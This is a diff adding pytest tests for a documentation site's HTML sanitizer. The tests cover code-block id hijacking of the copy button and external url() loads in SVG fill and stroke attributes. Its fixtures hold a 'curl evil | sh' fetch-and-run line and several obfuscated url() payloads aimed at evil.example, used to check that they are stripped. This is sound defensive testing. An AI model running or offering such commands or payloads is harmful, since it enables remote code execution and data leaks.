@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import re
+
 import pytest
 
 from sre_docs.site.sanitize import (
@@ -105,6 +107,69 @@ def test_chart_patterns_and_scrolling_survive() -> None:
 )
 def test_only_local_pattern_urls_in_styles(hostile: str) -> None:
     assert "evil" not in sanitize_html(hostile)
+
+
+@pytest.mark.parametrize(
+    "value", ["__code_0", "__code_1_annotation_2", "__code___code_0", "__config", "__drawer"]
+)
+def test_ids_material_assigns_at_run_time_are_not_content_s(value: str) -> None:
+    """Material's script names each code block `__code_N` and its copy button copies
+    `#__code_N > code`, the first in the page: a hidden element claiming that id would have
+    the button copy its text instead of the block's."""
+    for attribute in ("id", "name", "for"):
+        cleaned = sanitize_html(f'<p {attribute}="{value}"><code>curl evil | sh</code></p>')
+        assert value not in cleaned
+
+
+def test_every_code_block_has_an_id_of_its_own() -> None:
+    """Material names a block's copy target after the closest id around it: each `<pre>` gets
+    its own, unique in the page; a block with anchored lines keeps the name of its anchors."""
+    anchored = (
+        '<pre><code><a id="__codelineno-drain-1" name="__codelineno-drain-1"></a>x</code></pre>'
+    )
+    page = (
+        '<details id="0"><pre id="7"><code>a</code></pre></details>'
+        f"{anchored}{anchored}"
+        '<pre><code><a id="__codelineno-__block-4-1"></a>b</code></pre><pre>c</pre>'
+    )
+    cleaned = sanitize_html(page)
+    assert re.findall(r'<pre id="([^"]*)"', cleaned) == [
+        "__block-0",
+        "drain",
+        "__block-2",
+        "__block-3",
+        "__block-4",
+    ]
+    assert sanitize_html(cleaned) == cleaned
+
+
+@pytest.mark.parametrize("attribute", ["fill", "stroke"])
+@pytest.mark.parametrize(
+    "value",
+    [
+        "url(https://evil.example/x.svg#p)",
+        "url('//evil.example/x.svg#p')",
+        "URL(https://evil.example/x.svg#p) red",
+        "url(#p) url(https://evil.example/x.svg#p)",
+        "u\\72l(https://evil.example/x.svg#p)",
+        "u&#x72;l(https://evil.example/x.svg#p)",
+    ],
+)
+@pytest.mark.parametrize("element", ["svg", "g", "rect", "path", "text", "line", "circle"])
+def test_paint_attributes_load_nothing(element: str, attribute: str, value: str) -> None:
+    """`fill` and `stroke` are CSS properties in attribute form: a browser fetches the document
+    an `url()` there names, as it would from a style (Chromium does, for a shape's paint)."""
+    hostile = f'<svg><{element} {attribute}="{value}"></{element}></svg>'
+    assert "evil" not in sanitize_html(hostile)
+
+
+def test_paint_attributes_keep_colours_and_local_patterns() -> None:
+    kept = (
+        '<svg fill="none"><g fill="currentColor" stroke="#fff">'
+        '<rect fill="url(#p)"></rect><path fill="var(--md-accent-fg-color, #526cfe)"></path>'
+        "</g></svg>"
+    )
+    assert sanitize_html(kept) == kept
 
 
 @pytest.mark.parametrize(
